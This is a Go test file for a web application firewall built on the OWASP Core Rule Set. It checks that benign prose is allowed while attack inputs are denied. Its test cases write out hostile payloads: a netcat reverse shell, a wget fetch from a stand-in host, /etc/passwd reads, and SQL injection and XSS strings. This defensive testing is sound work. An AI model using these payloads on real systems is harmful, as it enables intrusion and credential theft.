package inspector

import (
	"fmt"
	"io/fs"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/stretchr/testify/require"
)

const profNoCorroboration = "no-corroboration"

// corroborationCase is a request the default profile decides want, and
// the default profile without corroboration wantOff; wantRule matched in
// the default profile (0: none asserted).
type corroborationCase struct {
	name          string
	req           Request
	want, wantOff Decision
	wantRule      int
}

func corroborationCases() []corroborationCase {
	q := func(s string) Request { return get("HTTP/1.1", "/api/v1/search?note="+qesc(s)+"&page=1") }
	js := func(s string) Request {
		return send("POST", "HTTP/1.1", "/api/v1/notes", "application/json", `{"note":`+jsonString(s)+`,"page":1}`)
	}
	mp := func(filename string) Request {
		body := "------meshwafBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename + "\"\r\n" +
			"Content-Type: text/plain\r\n\r\nreport\r\n------meshwafBoundary7MA4YWxk--\r\n"
		return send("POST", "HTTP/1.1", "/api/v1/notes", multipartCT, body)
	}
	return []corroborationCase{
		// Held PL1 rules: the sentence passes, the attack is still denied.
		{name: "932235/sentence", req: q("You will be honored for contributing your time and skill to a worthy cause."), want: Allow, wantOff: Deny, wantRule: 932235},
		{name: "932235/sentence-semicolon", req: js("Not on all of the time (such as a laptop)? Try the 'anacron' package; this will make sure tasks are run."), want: Allow, wantOff: Deny, wantRule: 932235},
		{name: "932235/attack", req: q("a;sleep 60;5"), want: Deny, wantOff: Deny, wantRule: CorroborationShell},
		{name: "932235/attack-amp", req: js("&ping -n 25 127.0.0.1&5"), want: Deny, wantOff: Deny, wantRule: CorroborationShell},
		{name: "932250/sentence", req: js("zsh is the best!"), want: Allow, wantOff: Deny, wantRule: 932250},
		{name: "932250/attack", req: q("x; zsh -c id"), want: Deny, wantOff: Deny},
		{name: "932260/sentence", req: js("dpkg removes all of the package's files, with the exception of the configuration files."), want: Allow, wantOff: Deny, wantRule: 932260},
		{name: "932260/attack", req: q("wget http://ev1l.example/x.txt"), want: Deny, wantOff: Deny, wantRule: CorroborationShell},
		{name: "932230/sentence", req: js("The following command reinstalls postfix even if it is already present:"), want: Allow, wantOff: Deny, wantRule: 932230},
		{name: "932230/attack", req: q("x;nc -e /bin/sh 10.0.0.1 4444"), want: Deny, wantOff: Deny},
		{name: "932280/sentence", req: js("Build the .orig.tar.{gz,bz2,xz} file yourself."), want: Allow, wantOff: Deny, wantRule: 932280},
		{name: "932280/attack", req: q("{cat,/etc/passwd}"), want: Deny, wantOff: Deny},
		{name: "942190/sentence", req: js("union was a great select"), want: Allow, wantOff: Deny, wantRule: 942190},
		{name: "942190/attack", req: q("1' union select password from users-- -"), want: Deny, wantOff: Deny},
		{name: "941210/sentence", req: js("JavaScript: Basics of the language"), want: Allow, wantOff: Deny, wantRule: 941210},
		{name: "941210/attack", req: q(`<a href="javascript:alert(1)">x</a>`), want: Deny, wantOff: Deny},
		{name: "920120/file-name", req: mp("Aaron's notes.pdf"), want: Allow, wantOff: Deny, wantRule: 920120},
		{name: "920120/attack", req: mp("x'<script>alert(1)</script>.pdf"), want: Deny, wantOff: Deny},
		{name: "920120/attack-corroborated", req: mp(`\x27UNION SELECT`), want: Deny, wantOff: Deny, wantRule: CorroborationFileName},
		// File and shell names score in a single-token value only.
		{name: "930120/sentence", req: js("Edit /etc/fstab to mount the new disk at boot."), want: Allow, wantOff: Deny, wantRule: 930120},
		{name: "930120/attack", req: q("/etc/passwd"), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "930120/attack-scheme", req: js("file:///etc/shadow"), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "930120/attack-padded", req: js(" /etc/passwd\t"), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "930120/attack-encoded-space", req: q("/etc/passwd%20"), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "930120/attack-nul", req: q("/etc/passwd%00 .jpg"), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "930120/attack-windows", req: js(`C:\Program Files\Common Files\app.ini`), want: Deny, wantOff: Deny, wantRule: CorroborationToken},
		{name: "932160/sentence", req: js("New accounts get the login shell /bin/bash unless told otherwise."), want: Allow, wantOff: Deny, wantRule: 932160},
		{name: "932160/attack", req: q("/bin/bash"), want: Deny, wantOff: Deny, wantRule: CorroborationToken + 1},
		// Paranoia-level-2 rules scoring directly.
		{name: "942390/sentence", req: js("Call me (maybe) at 5 (or 6) - options (a|b) & (c)!"), want: Allow, wantOff: Allow, wantRule: 942390},
		{name: "942390/attack", req: q("1' or 1=1 or 'a'='a"), want: Deny, wantOff: Deny},
		{name: "942180/attack", req: q("x' or name()='username' or 'x'='y"), want: Deny, wantOff: Allow, wantRule: 942180},
		{name: "921151/attack", req: get("HTTP/1.1", "/api/v1/search?note=1%0aenv;&page=1"), want: Deny, wantOff: Allow, wantRule: 921151},
		// Paranoia-level-2 rules corroborating each other.
		{name: "pl2-pair/attack", req: q(`\x3D%20\x27`), want: Deny, wantOff: Allow, wantRule: CorroborationPL2},
		{name: "pl2-single/alone", req: q(`\x27\x4F\x52 SELECT *`), want: Allow, wantOff: Allow, wantRule: 942330},
		{name: "pl2-pair/942480", req: q("PRINT @@variable"), want: Allow, wantOff: Allow, wantRule: 942480},
		// 942180 and 920271 corroborate (they scored directly until fresh4):
		// a closing quote before ';' is punctuation, a control character
		// in chat text is no attack; 942380 (until fresh5) reads "execute"
		// in prose.
		{name: "942180/prose", req: js(`Some call it a "necessary evil"; others disagree.`), want: Allow, wantOff: Allow, wantRule: 942180},
		{name: "942380/prose", req: js("If you think the listed packages are OK to be purged, execute the following command."), want: Allow, wantOff: Allow, wantRule: 942380},
		{name: "942380/attack", req: q("1;execute xp_cmdshell 'dir'"), want: Deny, wantOff: Deny, wantRule: CorroborationPL2},
		{name: "920271/chat", req: js("<nick> \u0002bold\u0002 hello there"), want: Allow, wantOff: Allow, wantRule: 920271},
		// Chained paranoia-level-2 rules run as promoted copies.
		{name: "942130/attack", req: q("or 0=0 #"), want: Deny, wantOff: Allow, wantRule: FirstPromoted},
		{name: "942521/attack", req: q("' or (EXISTS)"), want: Deny, wantOff: Allow, wantRule: FirstPromoted + 1},
		{name: "942400/attack", req: q("1 and 'x'"), want: Deny, wantOff: Allow, wantRule: 942400},
		// 942390 does not corroborate 942370 (sameEvidence): quoted
		// alternatives in prose match both.
		{name: "pl2-same-evidence/prose", req: js("Try 'make check <dir>' or 'make lint <dir>' before you push."), want: Allow, wantOff: Allow, wantRule: 942370},
	}
}

// TestCorroboration: each false positive corroboration removes passes in
// the default profile and is denied without it, each attack the held rule
// catches is still denied, and each selected paranoia-level-2 rule
// catches what PL1 lets through.
func TestCorroboration(t *testing.T) {
	off := false
	// The comparison profile also leaves the rule pack out: its XPath rule
	// 460610 catches 942180's attack too.
	rs, err := Compile(Profile{}, Profile{Name: profNoCorroboration, Corroboration: &off, RulePack: &off})
	require.NoError(t, err)
	defer rs.Close()
	for _, tc := range corroborationCases() {
		t.Run(tc.name, func(t *testing.T) {
			v := inspect(t, rs, "", tc.req)
			require.Equal(t, tc.want, v.Decision, "score %d, rules %v", v.AnomalyScore, v.RuleIDs())
			if tc.wantRule != 0 {
				require.Contains(t, v.RuleIDs(), tc.wantRule)
			}
			o := inspect(t, rs, profNoCorroboration, tc.req)
			require.Equal(t, tc.wantOff, o.Decision, "%s: score %d, rules %v", profNoCorroboration, o.AnomalyScore, o.RuleIDs())
		})
	}
}

// TestCorroborationToken: each heldUnlessToken rule is read from CRS's
// text (operator with its data file, targets, transformations, tags), and
// its corroborating rule compiles.
func TestCorroborationToken(t *testing.T) {
	_, ok := parseCRSRule(crsRuleText(942130))
	require.False(t, ok, "a chain is refused")
	_, ok = parseCRSRule("")
	require.False(t, ok)
	rs, err := Compile(Profile{})
	require.NoError(t, err)
	defer rs.Close()
	for i, id := range heldUnlessToken {
		r, ok := parseCRSRule(crsRuleText(id))
		require.True(t, ok, "rule %d", id)
		require.True(t, strings.HasPrefix(r.operator, "@pmFromFile @owasp_crs/"), "rule %d: %s", id, r.operator)
		require.Contains(t, r.targets, "ARGS")
		require.Equal(t, "t:none", r.transforms[0], "rule %d", id)
		require.Contains(t, r.tags, "tag:'paranoia-level/1'", "rule %d", id)
		text := tokenCorroboration(id, CorroborationToken+i)
		require.Contains(t, text, fmt.Sprintf("id:%d,", CorroborationToken+i))
		require.Contains(t, text, r.operator)
		require.True(t, rs.def.ruleIDs[CorroborationToken+i], "the rule of %d is compiled", id)
	}
}

// TestCorroborationPromoted: each promoted rule is CRS's chain under its
// new id, scoring at level 1 only, in place of the removed original.
func TestCorroborationPromoted(t *testing.T) {
	require.Empty(t, crsRuleText(999999))
	require.LessOrEqual(t, FirstPromoted+len(promotedPL2)-1, LastCorroborationID)
	require.Less(t, FirstPromoted+len(promotedPL2)-1, CorroborationToken)
	require.LessOrEqual(t, CorroborationToken+len(heldUnlessToken)-1, LastCorroborationID)
	removed := corroborationRemoved(Profile{})
	rs := testRuleSet(t)
	for i, id := range promotedPL2 {
		orig := crsRuleText(id)
		require.Equal(t, 2, strings.Count(orig, "SecRule "), "rule %d: one chained rule, up to the next directive", id)
		text := promoted(id, FirstPromoted+i)
		require.Contains(t, text, fmt.Sprintf(`"id:%d,`, FirstPromoted+i))
		require.NotContains(t, text, fmt.Sprintf("id:%d,", id))
		require.Regexp(t, `\bchain\b`, text)
		require.NotContains(t, text, "inbound_anomaly_score_pl2")
		require.Contains(t, text, "inbound_anomaly_score_pl1=+")
		require.Contains(t, text, "tag:'meshwaf/corroboration'")
		require.Contains(t, removed, id, "the original %d is removed", id)
		require.True(t, rs.def.ruleIDs[FirstPromoted+i], "the copy of %d is compiled", id)
	}
}

// TestCorroborationRemovesPL2: paranoia-level-2 rules behind most of
// PL2's false positives on sentences (942440, 942200) stay out of the
// default profile.
func TestCorroborationRemovesPL2(t *testing.T) {
	rs, err := Compile(Profile{}, Profile{Name: "pl2", ParanoiaLevel: 2})
	require.NoError(t, err)
	defer rs.Close()
	req := send("POST", "HTTP/1.1", "/api/v1/notes", "application/json",
		`{"note":"A light wife doth make a heavy husband. -- Wm. Shakespeare, \"The Merchant of Venice\""}`)
	pl2 := inspect(t, rs, "pl2", req)
	require.Equal(t, Deny, pl2.Decision, "rules %v", pl2.RuleIDs())
	require.Subset(t, pl2.RuleIDs(), []int{942200, 942440})
	v := inspect(t, rs, "", req)
	require.Equal(t, Allow, v.Decision, "rules %v", v.RuleIDs())
	require.NotContains(t, v.RuleIDs(), 942200)
	require.NotContains(t, v.RuleIDs(), 942440)
}

// TestCorroborationPreselect: pre-selection changes no verdict of the
// corroboration cases.
func TestCorroborationPreselect(t *testing.T) {
	off := false
	on, err := Compile(Profile{})
	require.NoError(t, err)
	defer on.Close()
	full, err := Compile(Profile{Preselect: &off})
	require.NoError(t, err)
	defer full.Close()
	for _, tc := range corroborationCases() {
		requireSameVerdict(t, tc.name, inspect(t, on, "", tc.req), inspect(t, full, "", tc.req))
	}
}

// TestCorroborationDirectives: only at paranoia level 1 and not under
// CRSOnly; every other paranoia-level-2 rule is removed, none of the
// selected ones.
func TestCorroborationDirectives(t *testing.T) {
	d := Directives(Profile{}.WithDefaults())
	require.Contains(t, d, "setvar:tx.detection_paranoia_level=2")
	var removed []string
	for _, l := range strings.Split(d, "\n") {
		if rest, ok := strings.CutPrefix(l, "SecRuleRemoveById "); ok {
			removed = append(removed, strings.Fields(rest)...)
		}
	}
	pl2 := crsRulesAtLevel(2)
	require.Greater(t, len(pl2), 50, "CRS has many paranoia-level-2 request rules")
	require.Len(t, removed, len(pl2)-len(directPL2)-len(corroboratingPL2))
	for _, id := range slices.Concat(directPL2, corroboratingPL2) {
		require.Contains(t, pl2, id, "selected rule %d is not a paranoia-level-2 rule", id)
	}
	for _, id := range []int{942440, 942200, 931130, 942120} {
		require.Contains(t, removed, strconv.Itoa(id))
	}
	// Exclusions and afterCRS may name removed rules: they are removed last.
	rs, err := Compile(Profile{Exclusions: []Exclusion{{RuleIDs: []int{942440}, Targets: []string{"ARGS:note"}}},
		AfterCRS: "SecRuleUpdateTargetById 942200 \"!ARGS:q\""})
	require.NoError(t, err)
	rs.Close()
	for _, p := range []Profile{{ParanoiaLevel: 2}, Profile{}.CRSOnly(), {BeforeCRS: "SecAction \"id:10000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2\""}} {
		d := Directives(p.WithDefaults())
		require.NotContains(t, d, "meshwaf/corroboration")
		require.NotContains(t, d, "detection_paranoia_level=2\"")
	}
}

// TestCorroborationNotChained: no rule whose actions corroborate.go
// appends to is the first of a chain (the actions would run when that
// first rule alone matched), and every one is in CRS.
func TestCorroborationNotChained(t *testing.T) {
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/REQUEST-*.conf")
	require.NoError(t, err)
	var all strings.Builder
	for _, f := range files {
		b, err := fs.ReadFile(coreruleset.FS, f)
		require.NoError(t, err)
		all.Write(b)
	}
	crs := all.String()
	reNext := regexp.MustCompile(`\n\s*(?:SecRule|SecAction|SecMarker)\b`)
	ids := slices.Concat(directPL2, corroboratingPL2, heldByShell, heldUnlessToken, []int{heldFileName})
	for _, h := range heldByClass {
		ids = append(ids, h.id)
	}
	for _, id := range ids {
		i := strings.Index(crs, "id:"+strconv.Itoa(id)+",")
		require.GreaterOrEqual(t, i, 0, "rule %d not in CRS", id)
		actions := crs[i:]
		if loc := reNext.FindStringIndex(actions); loc != nil {
			actions = actions[:loc[0]]
		}
		require.NotRegexp(t, `\bchain\b`, actions, "rule %d is a chain", id)
		require.Contains(t, actions, "inbound_anomaly_score_pl", "rule %d scores elsewhere", id)
	}
	for _, id := range promotedPL2 {
		require.Regexp(t, `\bchain\b`, crsRuleText(id), "promoted rule %d is a chain (else select it directly)", id)
	}
	require.Regexp(t, `\bchain\b`, crs[strings.Index(crs, "id:942130,"):][:2000], "942130 is a chain: the check finds chains")
}

// requireSameVerdict: pre-selection on (a) and off (b) agree on the
// decision, the score and the rules that matched.
func requireSameVerdict(t *testing.T, name string, a, b Verdict) {
	t.Helper()
	require.Equal(t, a.Decision, b.Decision, name)
	require.Equal(t, a.AnomalyScore, b.AnomalyScore, name)
	require.Equal(t, a.RuleIDs(), b.RuleIDs(), name)
}
